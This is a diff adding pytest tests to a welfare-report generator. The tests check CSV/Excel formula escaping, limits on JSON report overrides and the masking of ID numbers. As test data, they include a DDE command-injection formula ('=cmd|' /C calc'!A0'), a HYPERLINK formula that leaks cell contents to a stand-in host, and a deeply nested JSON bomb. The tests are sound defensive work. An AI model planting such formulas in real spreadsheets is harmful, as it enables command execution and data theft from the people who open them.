@@ -6,6 +6,8 @@ import json
 from datetime import date
 
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
 from app.domain.report import Document, Paragraph
 from app.errors import InvalidInput
@@ -115,3 +117,128 @@ def test_default_file_names_say_what_the_file_is():
     assert default_file_name(ReportRequest("survey", "2026-11", options=frozenset({"blank"})), ".xlsx") == (
         "survey-2026-11-blank.xlsx"
     )
+
+
+# --- what the reviewer found (issue 11): formulas, overrides, ID numbers, options that do not apply ---
+
+FORMULA = "=cmd|' /C calc'!A0"
+
+
+def _string_cells(xlsx: bytes) -> list:
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(BytesIO(xlsx)).active
+    return [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
+
+
+def test_text_from_the_register_or_an_override_is_never_an_excel_formula(office):
+    from app.reports.output import render
+
+    session, _code, data_dir = office
+    link = '=HYPERLINK("http://x/?"&B1,"a")'
+    saved = session.households.add(
+        household(head_name="马玉兰", address=link), [member("马玉兰", date(1970, 3, 1), male=False)]
+    )
+    folder = data_dir / "reports"
+    folder.mkdir()
+    override = {
+        "title": FORMULA,
+        "columns": [{"key": "member.name", "title": FORMULA}, {"key": "member.id_number"}],
+        "signatures": [FORMULA],
+    }
+    (folder / "survey.json").write_text(json.dumps(override, ensure_ascii=False), encoding="utf-8")
+    doc = session.reports.build(ReportRequest("survey", "2026-11", household=saved.id))
+    cells = _string_cells(render(doc, ".xlsx"))
+    address = [c for c in cells if c.value == link]
+    from_file = [c for c in cells if "cmd|" in c.value]
+    assert address and len(from_file) >= 3  # the title, the column heading, the signature line
+    assert {c.data_type for c in address + from_file} == {"s"}
+    heading = next(c for c in from_file if c.value == FORMULA)
+    assert heading.quotePrefix  # Excel keeps it text even when the clerk edits the cell
+
+
+def test_an_override_with_a_byte_order_mark_is_read(office):
+    session, _code, data_dir = office
+    folder = data_dir / "reports"
+    folder.mkdir()
+    (folder / "payment-roster.json").write_bytes(json.dumps({"title": "县定发放表"}).encode("utf-8-sig"))
+    assert session.reports.spec("payment-roster").title == "县定发放表"
+
+
+@pytest.mark.parametrize(
+    ("text", "words"),
+    [
+        ("[" * 100_000 + "]" * 100_000, "嵌套层次过深"),
+        (json.dumps({"title": "表" * 201}), "title 不能超过 200 个字"),
+        (json.dumps({"footer": "电" * 501}), "footer 不能超过 500 个字"),
+        (json.dumps({"title": ["发放表"]}), "title 应为文字"),
+        (json.dumps({"columns": [{"key": "name", "title": "姓" * 41}]}), "title 不能超过 40 个字"),
+        (json.dumps({"signatures": ["制表人"] * 9}), "最多 8 项"),
+        (json.dumps({"columns": [{"key": "name", "width": 20}, {"key": "amount", "width": 0.1}]}), "width 太小"),
+        (json.dumps({"font_scale": float("nan")}), "font_scale"),
+    ],
+)
+def test_a_hostile_override_is_refused_in_one_sentence_naming_the_file(office, text, words):
+    session, _code, data_dir = office
+    folder = data_dir / "reports"
+    folder.mkdir()
+    path = folder / "payment-roster.json"
+    path.write_text(text, encoding="utf-8")
+    with pytest.raises(InvalidInput) as refused:
+        session.reports.spec("payment-roster")
+    message = str(refused.value)
+    assert str(path) in message and words in message
+    assert "\n" not in message and len(message) < 300
+
+
+def test_monthly_stats_prints_at_double_size(office):
+    from app.reports.output import render
+
+    session, _code, data_dir = office
+    folder = data_dir / "reports"
+    folder.mkdir()
+    (folder / "monthly-stats.json").write_text(json.dumps({"font_scale": 2.0}), encoding="utf-8")
+    doc = session.reports.build(ReportRequest("monthly-stats", "2026-11"))
+    assert doc.source == str(folder / "monthly-stats.json")
+    assert render(doc, ".pdf").startswith(b"%PDF")
+
+
+@pytest.mark.parametrize("name", ["monthly-stats", "care", "survey", "household-file"])
+def test_a_programme_is_refused_where_the_report_is_not_per_programme(office, name):
+    session, _code, _dir = office
+    with pytest.raises(InvalidInput, match="不按救助项目出具"):
+        session.reports.checked(ReportRequest(name, "2026-11", programme="低保", options=frozenset({"blank"})))
+
+
+@pytest.mark.parametrize("name", ["changes", "publicity"])
+def test_a_programme_is_kept_where_the_builder_filters_by_it(office, name):
+    session, _code, _dir = office
+    request = ReportRequest(name, "2026-11", programme="低保", village="640424100200")
+    assert session.reports.checked(request).programme == "低保"
+
+
+@settings(max_examples=25, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
+@given(st.from_regex(r"[1-9][0-9]{13,16}[0-9Xx]", fullmatch=True))
+def test_an_unknown_id_number_is_never_echoed(office, given_id):
+    session, _code, _dir = office
+    with pytest.raises(InvalidInput) as refused:
+        session.reports.checked(ReportRequest("survey", "2026-11", household=given_id))
+    message = str(refused.value)
+    assert message == "登记中没有这个身份证号的成员。"
+    assert given_id[:6] not in message
+
+
+def test_the_checked_request_names_the_household_not_the_id_number(office):
+    session, _code, _dir = office
+    head = member("马玉兰", date(1970, 3, 1), male=False)
+    saved = session.households.add(household(head_name="马玉兰"), [head])
+    checked = session.reports.checked(ReportRequest("survey", "2026-11", household=head.id_number))
+    assert checked.household == saved.id
+    name = default_file_name(checked, ".pdf")
+    assert name == f"survey-2026-11-{saved.id[:8]}.pdf"
+    assert head.id_number[:8] not in name
+    # Even unresolved, an ID number never becomes part of a name.
+    raw = default_file_name(ReportRequest("survey", "2026-11", household=head.id_number), ".pdf")
+    assert raw == "survey-2026-11.pdf"
